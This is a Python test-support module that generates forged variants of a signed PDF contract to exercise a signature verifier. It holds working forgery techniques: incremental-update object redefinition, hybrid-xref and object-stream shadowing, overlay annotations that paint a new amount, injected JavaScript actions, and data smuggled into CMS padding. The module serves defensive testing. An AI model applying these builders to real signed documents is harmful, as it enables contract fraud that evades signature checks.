# ruff: noqa: E501 - long PDF literals read better on one line
"""Forgeries of a signed contract (issue 10, attacks 1–6 and further bypasses), made by code.

Each builder takes and returns PDF bytes (inputs untouched). Updates are written with pyHanko's
``IncrementalPdfFileWriter`` (:func:`tests.pdf_verify.tampering.incremental`), or — where an attacker
needs control pyHanko does not give (a chosen object number, a hybrid-reference section) — appended as a
raw incremental update by :func:`raw_update`.
"""

from __future__ import annotations

import io
import re
import zlib

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers
from pyhanko.sign.fields import MDPPerm, SigSeedSubFilter

from tests.pdf_verify.tampering import incremental, page

#: Where the contract's amount field sits on page 1.
AMOUNT_RECT = (300, 700, 500, 720)
#: A white box and another amount, drawn over the amount.
FORGED_AMOUNT = b"1 1 1 rg 300 700 200 20 re f 0 g BT /Helv 10 Tf 302 706 Td (1200000.00) Tj ET"


# -- signing ----------------------------------------------------------------------------------------------


class _NoSigningCertificateV2(signers.SimpleSigner):
    async def signed_attrs(self, *args, **kwargs):  # type: ignore[no-untyped-def]
        from asn1crypto import cms

        attrs = await super().signed_attrs(*args, **kwargs)
        return cms.CMSAttributes([a for a in attrs if a["type"].native != "signing_certificate_v2"])


def without_signing_certificate_v2(signer: signers.SimpleSigner) -> signers.SimpleSigner:
    """The same signer, leaving signingCertificateV2 out of its signed attributes."""
    signer.__class__ = _NoSigningCertificateV2
    return signer


class _AnySigner(signers.PdfSigner):
    """An attacker's signing tool: signs whatever the certification says."""

    def _enforce_certification_constraints(self, reader):  # type: ignore[no-untyped-def]
        return None


def sign_as(
    data: bytes, signer: signers.Signer, field: str, *, certify: int | None = None, pades: bool = False
) -> bytes:
    """Sign ``field``; ``certify`` = DocMDP P (1, 2, 3) for a certification signature; ``pades`` for
    ETSI.CAdES.detached."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    meta = signers.PdfSignatureMetadata(
        field_name=field,
        md_algorithm="sha256",
        subfilter=SigSeedSubFilter.PADES if pades else None,
        certify=certify is not None,
        docmdp_permissions=MDPPerm(certify or 2),
    )
    out = io.BytesIO()
    _AnySigner(meta, signer=signer).sign_pdf(writer, output=out)
    return out.getvalue()


# -- raw incremental updates -----------------------------------------------------------------------------


def _last(pattern: bytes, data: bytes) -> bytes:
    return re.findall(pattern, data)[-1]


def raw_update(data: bytes, objects: dict[int, bytes], *, hybrid: dict[int, bytes] | None = None) -> bytes:
    """Append an incremental update defining ``objects`` (number -> body) in a classic xref section.

    With ``hybrid``, those objects are written too but registered only in a cross-reference *stream* that
    the trailer names with /XRefStm (a hybrid-reference section, read by PDF 1.5+ viewers only).
    """
    prev = int(_last(rb"startxref\s+(\d+)", data))
    size = int(_last(rb"/Size (\d+)", data))
    root = _last(rb"/Root (\d+ \d+ R)", data)
    info = re.findall(rb"/Info (\d+ \d+ R)", data)
    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
    offsets = {}
    for number, body in {**objects, **(hybrid or {})}.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    top = max([size - 1, *offsets])
    extra = b""
    if hybrid:
        stream_number = top + 1
        top = stream_number
        rows = b"".join(b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00" for n in sorted(hybrid))
        index = b" ".join(b"%d 1" % n for n in sorted(hybrid))
        offsets[stream_number] = len(out)
        out += (
            b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 1] /Index [%s] /Length %d >>\nstream\n"
            % (stream_number, top + 1, index, len(rows))
            + rows
            + b"\nendstream\nendobj\n"
        )
        extra = b" /XRefStm %d" % offsets[stream_number]
    xref_at = len(out)
    out += b"xref\n"
    for number in sorted(n for n in offsets if n not in (hybrid or {})):
        out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    out += b"trailer\n<< /Size %d /Root %s%s /Prev %d%s >>\nstartxref\n%d\n%%%%EOF\n" % (
        top + 1,
        root,
        b" /Info " + info[-1] if info else b"",
        prev,
        extra,
        xref_at,
    )
    return bytes(out)


def content_stream(body: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(body), body)


def overlay_annotation(number: int, page_ref: bytes = b"10 0 R") -> dict[int, bytes]:
    """A FreeText annotation (object ``number``) with its appearance (``number + 1``) over the amount."""
    ap = FORGED_AMOUNT.replace(b"300 700 200 20 re", b"0 0 200 20 re").replace(b"302 706 Td", b"2 6 Td")
    return {
        number: b"<< /Type /Annot /Subtype /FreeText /Rect [300 700 500 720] /P %s /F 4 /AP << /N %d 0 R >> >>"
        % (page_ref, number + 1),
        number
        + 1: b"<< /Type /XObject /Subtype /Form /BBox [0 0 200 20] /Resources << /Font << /Helv 4 0 R >> >> /Length %d >>\nstream\n%s\nendstream"
        % (len(ap), ap),
    }


# -- attack 1: forward references -------------------------------------------------------------------------


def plant_forward_annotation(contract: bytes) -> bytes:
    """Before signing: page 1 gets ``/Annots [5 0 R 990 0 R]``, object 990 undefined."""

    def change(writer):
        target = page(writer)
        target["/Annots"].append(generic.IndirectObject(990, 0, writer))
        writer.update_container(target)

    return incremental(contract, change)


def plant_forward_contents(contract: bytes) -> bytes:
    """Before signing: page 1's /Contents becomes ``[11 0 R 990 0 R]``, object 990 undefined."""

    def change(writer):
        target = page(writer)
        target["/Contents"] = generic.ArrayObject(
            [target.raw_get("/Contents"), generic.IndirectObject(990, 0, writer)]
        )
        writer.update_container(target)

    return incremental(contract, change)


def define_990_annotation(signed: bytes) -> bytes:
    return raw_update(signed, overlay_annotation(990) | {})


def define_990_contents(signed: bytes) -> bytes:
    return raw_update(signed, {990: content_stream(FORGED_AMOUNT)})


# -- attacks 2 and 3: new signature fields as carriers ------------------------------------------------------


def _appearance(writer, body: bytes = FORGED_AMOUNT) -> generic.IndirectObject:
    ap = body.replace(b"300 700 200 20 re", b"0 0 200 20 re").replace(b"302 706 Td", b"2 6 Td")
    stream = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(generic.NumberObject(v) for v in (0, 0, 200, 20)),
            pdf_name("/Resources"): generic.DictionaryObject(
                {
                    pdf_name("/Font"): generic.DictionaryObject(
                        {pdf_name("/Helv"): generic.IndirectObject(4, 0, writer)}
                    )
                }
            ),
        },
        stream_data=ap,
    )
    return writer.add_object(stream)


def _numbers(values) -> generic.ArrayObject:
    return generic.ArrayObject(generic.FloatObject(v) for v in values)


def add_signature_field(
    data: bytes, *, rect=AMOUNT_RECT, appearance: bool = True, actions: bool = False, name: str = "overlay"
) -> bytes:
    """An update adding an empty signature field on page 1 (optionally painting, optionally with actions)."""

    def change(writer):
        field = generic.DictionaryObject(
            {
                pdf_name("/FT"): pdf_name("/Sig"),
                pdf_name("/T"): generic.TextStringObject(name),
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Widget"),
                pdf_name("/Rect"): _numbers(rect),
                pdf_name("/F"): generic.NumberObject(4),
                pdf_name("/P"): writer.root["/Pages"]["/Kids"].raw_get(0),
            }
        )
        if appearance:
            field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): _appearance(writer)})
        if actions:
            js = generic.DictionaryObject(
                {
                    pdf_name("/S"): pdf_name("/JavaScript"),
                    pdf_name("/JS"): generic.TextStringObject("this.getField('amount').value='1200000.00';"),
                }
            )
            field[pdf_name("/A")] = js
            field[pdf_name("/AA")] = generic.DictionaryObject({pdf_name("/PO"): js, pdf_name("/PV"): js})
        ref = writer.add_object(field)
        form = writer.root["/AcroForm"]
        form["/Fields"].append(ref)
        writer.update_container(form)
        target = page(writer)
        target["/Annots"].append(ref)
        writer.update_container(target)

    return incremental(data, change)


# -- attack 4: appearance regeneration -------------------------------------------------------------------


def value_differs_from_appearance(contract: bytes) -> bytes:
    """Before signing: the amount field's /V says 9,900,000 while its /AP still draws 100000.00."""

    def change(writer):
        field = writer.root["/AcroForm"]["/Fields"][0].get_object()
        field["/V"] = generic.TextStringObject("9900000.00")
        writer.update_container(field)

    return incremental(contract, change)


def set_need_appearances(data: bytes) -> bytes:
    def change(writer):
        form = writer.root["/AcroForm"]
        form["/NeedAppearances"] = generic.BooleanObject(True)
        writer.update_container(form)

    return incremental(data, change)


def redefine_dr_font(data: bytes) -> bytes:
    """/DR's font gets an /Encoding with /Differences (digits drawn as other digits)."""

    def change(writer):
        form = writer.root["/AcroForm"]
        differences = generic.ArrayObject(
            [generic.NumberObject(48), *(pdf_name(f"/{d}") for d in ("one", "two"))]
        )
        font = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Font"),
                pdf_name("/Subtype"): pdf_name("/Type1"),
                pdf_name("/BaseFont"): pdf_name("/Helvetica"),
                pdf_name("/Encoding"): generic.DictionaryObject({pdf_name("/Differences"): differences}),
            }
        )
        form["/DR"] = generic.DictionaryObject(
            {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/Helv"): writer.add_object(font)})}
        )
        writer.update_container(form)

    return incremental(data, change)


# -- attacks 5 and 6 ---------------------------------------------------------------------------------------


def change_info_title(data: bytes) -> bytes:
    def change(writer):
        info = writer.trailer["/Info"]
        info["/Title"] = generic.TextStringObject("Contract (amended)")
        writer.update_container(info)

    return incremental(data, change)


def smuggle_after_cms(signed: bytes, payload: bytes = b"<script>pay(1200000)</script>") -> bytes:
    """Write ``payload`` into the zero padding after the DER CMS inside the last /Contents."""
    match = list(re.finditer(rb"/ByteRange\s*\[\s*0 (\d+) (\d+) (\d+)\s*\]", signed))[-1]
    start, end = int(match.group(1)), int(match.group(2))
    hex_body = signed[start + 1 : end - 1]
    der = bytes.fromhex(hex_body.decode())
    length = len(der.rstrip(b"\x00"))
    patched = der[:length] + b"\x00" * 8 + payload
    patched = patched.ljust(len(der), b"\x00")
    return signed[: start + 1] + patched.hex().upper().encode() + signed[end - 1 :]


# -- further bypass attempts -------------------------------------------------------------------------------


def redefine_page_content(signed: bytes) -> bytes:
    """A later xref section redefines object 11 (page 1's content) under the same number."""
    return raw_update(
        signed, {11: content_stream(b"BT /Helv 12 Tf 72 740 Td (Contract amount: 1.00 CNY) Tj ET")}
    )


def redefine_identically(signed: bytes) -> bytes:
    """The honest twin: a later section writes object 11 again with the same content."""
    body = re.search(rb"\n11 0 obj\n(.*?)\nendobj", signed, re.S).group(1)  # type: ignore[union-attr]
    return raw_update(signed, {11: body})


def hybrid_page_content(signed: bytes) -> bytes:
    """Object 11 redefined, registered only in a hybrid-reference /XRefStm stream."""
    return raw_update(
        signed, {}, hybrid={11: content_stream(b"BT /Helv 12 Tf 72 740 Td (Contract amount: 1.00 CNY) Tj ET")}
    )


def annots_to_indirect_array(signed: bytes, *, extra: bool = True) -> bytes:
    """Page 1's direct /Annots [5 0 R] replaced by an indirect array (with an overlay when ``extra``)."""
    annots = b"[5 0 R 991 0 R]" if extra else b"[5 0 R]"
    objects = {993: annots} | (overlay_annotation(991) if extra else {})
    page1 = re.findall(rb"\n10 0 obj\n(.*?)\nendobj", signed, re.S)[-1]
    objects[10] = re.sub(rb"/Annots \[[^\]]*\]", b"/Annots 993 0 R", page1)
    return raw_update(signed, objects)


def swap_widget_parent(signed: bytes) -> bytes:
    """The signed buyer widget gets a /Parent: a new text field that claims it (a widget /Parent swap)."""

    def change(writer):
        buyer = writer.root["/AcroForm"]["/Fields"][1].get_object()
        parent = writer.add_object(
            generic.DictionaryObject(
                {
                    pdf_name("/FT"): pdf_name("/Tx"),
                    pdf_name("/T"): generic.TextStringObject("note"),
                    pdf_name("/V"): generic.TextStringObject("void"),
                    pdf_name("/Kids"): generic.ArrayObject([writer.root["/AcroForm"]["/Fields"].raw_get(1)]),
                }
            )
        )
        buyer["/Parent"] = parent
        writer.update_container(buyer)

    return incremental(signed, change)


def page_resources_xobject(signed: bytes) -> bytes:
    """Page 1's /Resources get a new XObject (unused by the signed content: any change counts)."""

    def change(writer):
        target = page(writer)
        stream = generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): _numbers((0, 0, 595, 842)),
            },
            stream_data=FORGED_AMOUNT,
        )
        resources = generic.DictionaryObject(
            {
                pdf_name("/Font"): generic.DictionaryObject(
                    {pdf_name("/Helv"): generic.IndirectObject(4, 0, writer)}
                ),
                pdf_name("/XObject"): generic.DictionaryObject({pdf_name("/X1"): writer.add_object(stream)}),
            }
        )
        target["/Resources"] = resources
        writer.update_container(target)

    return incremental(signed, change)


def copied_field_in_fields(signed: bytes) -> bytes:
    """/AcroForm /Fields points to a new copy of the amount field with another value (page unchanged)."""
    body = re.findall(rb"\n5 0 obj\n(.*?)\nendobj", signed, re.S)[-1].replace(b"(100000.00)", b"(1200000.00)")
    form = re.sub(
        rb"/Fields\s*\[\s*5 0 R",
        b"/Fields [994 0 R",
        re.findall(rb"\n3 0 obj\n(.*?)\nendobj", signed, re.S)[-1],
    )
    return raw_update(signed, {994: body, 3: form})


def open_action_javascript(signed: bytes) -> bytes:
    catalog = re.findall(rb"\n1 0 obj\n(.*?)\nendobj", signed, re.S)[-1]
    catalog = (
        catalog[: catalog.rindex(b">>")] + b" /OpenAction << /S /JavaScript /JS (app.alert\\('paid'\\)) >> >>"
    )
    return raw_update(signed, {1: catalog})


def names_javascript(signed: bytes) -> bytes:
    catalog = re.findall(rb"\n1 0 obj\n(.*?)\nendobj", signed, re.S)[-1]
    catalog = (
        catalog[: catalog.rindex(b">>")]
        + b" /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >> >>"
    )
    return raw_update(signed, {1: catalog})


def object_stream_update(signed: bytes) -> bytes:
    """The amount field redefined inside a compressed object stream of an xref-stream update."""
    body = re.findall(rb"\n5 0 obj\n(.*?)\nendobj", signed, re.S)[-1].replace(b"(100000.00)", b"(1.00)")
    header = b"5 0 "
    objstm = zlib.compress(header + body)
    prev = int(_last(rb"startxref\s+(\d+)", signed))
    size = int(_last(rb"/Size (\d+)", signed))
    root = _last(rb"/Root (\d+ \d+ R)", signed)
    out = bytearray(signed)
    stm_number, xref_number = size, size + 1
    stm_at = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        stm_number,
        len(header),
        len(objstm),
    )
    out += objstm + b"\nendstream\nendobj\n"
    xref_at = len(out)
    rows = (
        b"\x02"
        + stm_number.to_bytes(4, "big")
        + b"\x00"
        + b"\x01"
        + stm_at.to_bytes(4, "big")
        + b"\x00"
        + b"\x01"
        + xref_at.to_bytes(4, "big")
        + b"\x00"
    )
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 1] /Index [5 1 %d 2] /Root %s /Prev %d /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, stm_number, root, prev, len(rows))
    )
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def page_tree_cycle(signed: bytes) -> bytes:
    """The page tree's /Kids gets the tree itself as a fourth kid (a cycle that readers resolve differently)."""
    return raw_update(signed, {2: b"<< /Type /Pages /Kids [10 0 R 12 0 R 14 0 R 2 0 R] /Count 3 >>"})


def page_count_lie(signed: bytes) -> bytes:
    """Only /Count changes: viewers that trust it show two pages instead of three."""
    return raw_update(signed, {2: b"<< /Type /Pages /Kids [10 0 R 12 0 R 14 0 R] /Count 2 >>"})
